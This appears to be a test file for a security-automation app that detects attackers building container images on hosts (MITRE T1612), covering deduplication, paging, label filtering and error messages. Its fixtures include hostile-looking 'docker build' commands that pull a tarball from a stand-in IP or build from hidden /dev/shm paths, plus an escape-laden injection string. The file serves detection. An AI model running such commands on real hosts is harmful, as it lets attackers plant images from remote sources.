"""On poll: what is new is scored once, told once, and never passed over in silence."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from . import platform as stand_in
from .events import BUILD, DEPLOY, EGRESS, QUIET, Event
from .platform import Platform, platform

__all__ = ["platform"]

ATTACK: Event = {
    **BUILD,
    "ProcessCommandLine": "docker build --no-cache -t app:1 http://203.0.113.7/x.tar",
}
OTHER: Event = {"emailHeaders": "x", "fromEmail": "someone@example.org"}


def names(platform: Platform) -> list[str]:
    return [each["name"] for each in platform.made()]


def test_new_artifacts_are_scored_and_told_by_host(platform: Platform) -> None:
    platform.add(QUIET, ATTACK, DEPLOY, EGRESS)
    platform.add({**ATTACK, "DeviceName": "db-01"}, container=8)
    result = platform.poll()

    assert result.get_status() is True
    worst, other = platform.made()
    assert worst["name"].startswith("T1612: malicious (")
    assert worst["name"].endswith(" on web-prod-07")
    assert worst["severity"] == "high"
    assert [each["label"] for each in worst["artifacts"]] == ["chain", "finding"]
    assert [each["label"] for each in other["artifacts"]] == ["finding"]
    chain, finding = (each["cef"] for each in worst["artifacts"])
    assert chain["t1612Verdict"] == "build-then-deploy"
    assert "T1612" in chain["t1612Techniques"]
    assert finding["deviceHostname"] == "web-prod-07"
    assert finding["t1612Detail"] == ATTACK["ProcessCommandLine"]
    assert (finding["t1612ArtifactId"], finding["t1612ContainerId"]) == (2, 7)
    types = worst["artifacts"][1]["cef_types"]
    assert types["t1612ContainerId"] == ["phantom container id"]
    # Automation starts when all artifacts of a container are there.
    assert [each.get("run_automation") for each in worst["artifacts"]] == [None, True]


def test_what_is_told_is_told_once_and_what_the_app_made_is_not_read(
    platform: Platform, capsys: pytest.CaptureFixture[str]
) -> None:
    platform.add(ATTACK, DEPLOY, EGRESS)
    platform.poll()
    before = [platform.made(), len(platform.artifacts)]
    for _ in range(3):
        capsys.readouterr()
        assert platform.poll().get_status() is True
        assert "0 new artifacts, 3 of the hour before; 2 of this app" in capsys.readouterr().out
    platform.add(ATTACK)  # the same again, within a day

    assert platform.poll().get_status() is True
    assert [platform.made(), len(platform.artifacts) - 1] == before


def test_what_the_app_made_scores_nothing_where_it_was_copied(platform: Platform) -> None:
    platform.add(ATTACK, DEPLOY, EGRESS)
    platform.poll({"poll_min_score": 2})
    made = [each["cef"] for each in platform.artifacts[3:]]
    assert {"destinationAddress", "requestURL"} <= {key for each in made for key in each}
    platform.add(*made, QUIET, container=9)
    before = platform.made()

    assert platform.poll({"poll_min_score": 0}).get_status() is True
    assert platform.made() == before


def test_a_day_later_it_is_told_again(platform: Platform, monkeypatch: pytest.MonkeyPatch) -> None:
    from splunk_soar.src import poll

    platform.add(ATTACK, ago=23 * 60)
    for _ in range(2):
        platform.poll()
    assert len(platform.made()) == 1
    platform.add({**ATTACK, "Timestamp": "2026-03-03T08:06:43Z"})
    monkeypatch.setattr(poll, "MEMORY", timedelta(0))
    platform.poll()

    assert len(platform.made()) == 2


def test_a_chain_whose_steps_lie_on_both_sides_of_a_poll_is_found(platform: Platform) -> None:
    platform.add({**BUILD, "DeviceName": "web-9"}, EGRESS, ago=30)
    assert platform.poll().get_status() is True
    assert [name for name in names(platform) if "web-9" in name] == []
    platform.add({**DEPLOY, "DeviceName": "web-9"})
    platform.poll()

    assert len([name for name in names(platform) if "web-9" in name]) == 1
    (chain,) = platform.made()[-1]["artifacts"]
    assert chain["cef"]["t1612Verdict"] == "build-then-deploy"


def test_a_chain_that_goes_on_is_told_again_and_the_rest_of_one_is_not(platform: Platform) -> None:
    platform.add({**ATTACK}, EGRESS, ago=90)
    platform.poll()
    assert len(platform.made()) == 1
    platform.add(QUIET)  # by now the hour before has the chain no more
    platform.poll()
    platform.poll()
    assert len(platform.made()) == 1
    platform.add({**ATTACK, "Timestamp": "2026-03-02T08:06:40Z"}, EGRESS, DEPLOY)
    platform.poll()
    assert len(platform.made()) == 2
    assert platform.made()[1]["artifacts"][0]["cef"]["t1612Verdict"] == "build-then-deploy"


def test_a_poll_that_breaks_is_done_again_and_makes_nothing_twice(platform: Platform) -> None:
    platform.add(ATTACK)
    platform.add({**ATTACK, "DeviceName": "db-01"})
    platform.fails_at = 2
    result = platform.poll()
    assert result.get_status() is False
    assert "the database is full" in result.get_message()
    assert len(platform.made()) == 1
    platform.poll()

    assert sorted(name.split()[-1] for name in names(platform)) == ["db-01", "web-prod-07"]
    assert [len(each["artifacts"]) for each in platform.made()] == [1, 1]


def test_where_nothing_can_be_scored_the_poll_fails_and_goes_on(platform: Platform) -> None:
    platform.add(OTHER, OTHER)
    result = platform.poll()
    assert result.get_status() is False
    assert "none of 2 artifacts can be scored; the first: event is not rec" in result.get_message()
    assert "poll_labels" in result.get_message()
    assert platform.poll().get_status() is True  # nothing new is no reason to fail again
    platform.add(ATTACK)
    assert platform.poll().get_status() is True
    assert len(platform.made()) == 1
    assert "2 of 3 events not scored" in platform.made()[0]["description"]


def test_labels_choose_containers(platform: Platform) -> None:
    platform.add(ATTACK, container=7, label="edr")
    platform.add({**ATTACK, "DeviceName": "db-01"}, container=8, label="mail")
    assert platform.poll({"poll_labels": "edr, other"}).get_status() is True
    assert [name.split()[-1] for name in names(platform)] == ["web-prod-07"]
    asked = [each for each in platform.asked if each["endpoint"] == "rest/container"]
    assert [each["_filter_id__in"] for each in asked] == ["[7, 8]"]


def test_a_label_that_nothing_has_is_no_success(platform: Platform) -> None:
    platform.add(ATTACK)
    for _ in range(2):
        result = platform.poll({"poll_labels": "endpoint"})
        assert "none of 1 artifacts is in a container of the asset's poll_labels" in (
            result.get_message()
        )
        assert result.get_status() is False
    platform.add(QUIET, container=9, label="endpoint")
    assert platform.poll({"poll_labels": "endpoint"}).get_status() is True
    platform.add(ATTACK)
    assert platform.poll({"poll_labels": "endpoint"}).get_status() is True  # it was met once


def test_weak_findings_make_no_container(platform: Platform) -> None:
    platform.add(BUILD, {**EGRESS, "DeviceName": "ci-1"})

    assert platform.poll().get_status() is True
    assert platform.made() == []
    assert platform.poll({"poll_min_score": 2}).get_status() is True
    assert len(platform.made()) == 2


def test_pages_follow_each_other_by_id(platform: Platform, monkeypatch: pytest.MonkeyPatch) -> None:
    from splunk_soar.src import artifacts

    monkeypatch.setattr(artifacts, "MOST_PAGE", 3)
    hosts = [{**ATTACK, "DeviceName": f"web-{at}"} for at in range(7)]
    platform.add(*hosts)
    platform.poll()

    assert len(platform.made()) == 7
    assert [each["_filter_id__gt"] for each in platform.asked] == [0, 3, 6]
    assert {each["page_size"] for each in platform.asked} == {3}


def test_pages_without_ids_are_a_failure(
    platform: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    from splunk_soar.src import artifacts

    monkeypatch.setattr(artifacts, "MOST_PAGE", 2)
    platform.add(QUIET, QUIET, QUIET)
    for each in platform.artifacts:
        each["id"] = None
    monkeypatch.setattr(stand_in, "matches", lambda *_: True)

    assert "a page was answered without ids" in platform.poll().get_message()


def test_when_time_is_over_the_next_poll_goes_on_there(
    platform: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    from t1612core.summary import survey

    hosts = [{**ATTACK, "DeviceName": f"web-{at:02}"} for at in range(40)]
    platform.add(*hosts)
    ticks = iter(range(1_000_000))
    slow = pytest.MonkeyPatch()
    init = survey._Pass.__init__

    def by_ticks(self: Any, *args: Any) -> None:
        init(self, *args[:-1], lambda: next(ticks))

    slow.setattr(survey._Pass, "__init__", by_ticks)
    try:
        polls = 0
        while len(platform.made()) < 40:
            before = len(platform.made())
            assert platform.poll({"max_seconds": 30}).get_status() is True
            assert len(platform.made()) > before
            polls += 1
        assert polls > 1
        assert "time was over" in platform.made()[0]["description"]
    finally:
        slow.undo()
    assert platform.poll().get_status() is True
    assert len(platform.made()) == 40


def test_a_flood_is_told_bit_by_bit_the_worst_first(platform: Platform) -> None:
    lines = [
        {**ATTACK, "ProcessCommandLine": f"docker build --no-cache http://203.0.113.7/{at}.tar"}
        for at in range(5)
    ]
    platform.add(*lines)
    platform.add({**BUILD, "DeviceName": "db-01"})
    asset = {"max_findings": 2, "poll_min_score": 3}
    platform.poll(asset)
    assert [len(each["artifacts"]) for each in platform.made()] == [2]
    assert "3 more are not among the artifacts yet" in platform.made()[0]["description"]
    for _ in range(4):
        platform.poll(asset)

    told = [x["cef"].get("t1612Detail") for each in platform.made() for x in each["artifacts"]]
    assert {each["ProcessCommandLine"] for each in lines} <= set(told)
    assert any("db-01" in name for name in names(platform))


def test_a_flood_of_weak_findings_hides_no_other_host(platform: Platform) -> None:
    weak = "docker build --no-cache -t a /dev/shm/.x{}/"
    flood = [{**BUILD, "ProcessCommandLine": weak.format(at)} for at in range(40)]
    worst = {**BUILD, "ProcessCommandLine": "docker build --no-cache -q -t alpine:3 /dev/shm/.x/"}
    platform.add(worst, *flood)
    platform.add({**ATTACK, "DeviceName": "db-01"}, container=8)
    platform.add({**flood[0], "DeviceName": "db-02"}, container=9)
    result = platform.poll({"max_findings": 5, "poll_min_score": 3})

    assert result.get_status() is True
    scores = [[x["cef"]["t1612Score"] for x in each["artifacts"]] for each in platform.made()]
    assert [name.rpartition(" ")[2] for name in names(platform)] == [
        "web-prod-07",
        "db-01",
        "db-02",
    ]
    assert sum(map(len, scores)) == 5
    assert all(each == sorted(each, reverse=True) for each in scores)
    assert f"{42 - len(scores[0])} more are not" in platform.made()[0]["description"]


def test_by_hand_the_counts_hold_and_nothing_is_remembered(platform: Platform) -> None:
    platform.add(*({**ATTACK, "DeviceName": f"web-{at}"} for at in range(3)))
    assert platform.poll(container_count=1, artifact_count=10).get_status() is True
    assert len(platform.made()) == 1
    assert platform.app.actions_manager.load_state() == {"ingest": platform_state({})}
    platform.poll()
    assert len(platform.made()) == 3


def platform_state(value: Any) -> Any:
    from soar_sdk.shims.phantom.encryption_helper import encryption_helper

    return encryption_helper.encrypt(json.dumps(value), salt="1")


def test_by_hand_containers_are_chosen(platform: Platform) -> None:
    platform.add(ATTACK, container=7)
    platform.add({**ATTACK, "DeviceName": "db-01"}, container=8)
    platform.poll(container_count=10, artifact_count=10, container_id="8, 9")
    assert [name.split()[-1] for name in names(platform)] == ["db-01"]
    assert platform.asked[-1]["_filter_container__in"] == "[8, 9]"
    result = platform.poll(container_count=10, artifact_count=10, container_id="x")
    assert "container_id is 'x'; it is ids of containers" in result.get_message()


def test_by_hand_a_time_is_chosen(platform: Platform) -> None:
    platform.add({**ATTACK, "DeviceName": "old"}, ago=300)
    platform.add({**ATTACK, "DeviceName": "right"}, ago=100)
    platform.add({**ATTACK, "DeviceName": "new"})
    now = datetime.now(UTC)
    start, end = (int((now - timedelta(minutes=at)).timestamp() * 1000) for at in (200, 50))
    platform.poll(container_count=10, artifact_count=10, start_time=start, end_time=end)

    assert [name.split()[-1] for name in names(platform)] == ["right"]


def test_the_first_poll_looks_back_a_day(platform: Platform) -> None:
    platform.add({**ATTACK, "DeviceName": "old"}, ago=26 * 60)
    platform.add({**ATTACK, "DeviceName": "new"}, ago=22 * 60)
    platform.poll()

    assert [name.split()[-1] for name in names(platform)] == ["new"]


@pytest.mark.parametrize(
    ("asset", "said"),
    [
        ({"max_findings": 0}, "max_findings is 0, by which on poll would tell nothing"),
        ({"poll_min_score": -1}, "poll_min_score is -1; it is 0 or more"),
        ({"profile": "x"}, "the asset's profile is 'x'"),
    ],
)
def test_a_wrong_setting_is_told(platform: Platform, asset: dict[str, Any], said: str) -> None:
    result = platform.poll(asset)

    assert result.get_status() is False
    assert said in result.get_message()


@pytest.mark.parametrize(
    "saved",
    [{"last": "x", "newest": 7, "told": [1]}, {"is_whole": None, "told": {"a": "x", "b": None}}],
)
def test_a_state_of_something_else_is_none(platform: Platform, saved: dict[str, Any]) -> None:
    platform.app.actions_manager.save_state({"ingest": saved})
    platform.add(ATTACK)

    assert platform.poll().get_status() is True
    assert len(platform.made()) == 1


def test_a_host_without_a_name_is_told_by_its_container(platform: Platform) -> None:
    nameless = {key: value for key, value in ATTACK.items() if key != "DeviceName"}
    platform.add(nameless, container=7)
    platform.add({**nameless, "AccountName": "x"}, container=8)
    platform.poll()

    assert [name.partition(" on ")[2] for name in names(platform)] == [
        "a host without a name",  # a chain of both
        "a host without a name, in container 7",
        "a host without a name, in container 8",
    ]


def test_hostile_texts_are_shown_and_act_on_nothing(platform: Platform) -> None:
    platform.add({**ATTACK, "DeviceName": "web\u202e\x1b[31m\npassword=hunter2" + "x" * 9_000})
    platform.poll()
    (made,) = platform.made()

    assert made["name"].isprintable()
    assert len(made["name"]) <= 120
    assert all(len(str(each)) <= 5_000 for each in made["artifacts"][0]["cef"].values())


def test_the_state_is_bounded(platform: Platform, monkeypatch: pytest.MonkeyPatch) -> None:
    from splunk_soar.src import poll

    monkeypatch.setattr(poll, "_MOST_TOLD", 3)
    state = poll.State(told=dict.fromkeys("abcde", 9e9))
    state.forget(datetime.now(UTC))

    assert list(state.told) == ["c", "d", "e"]
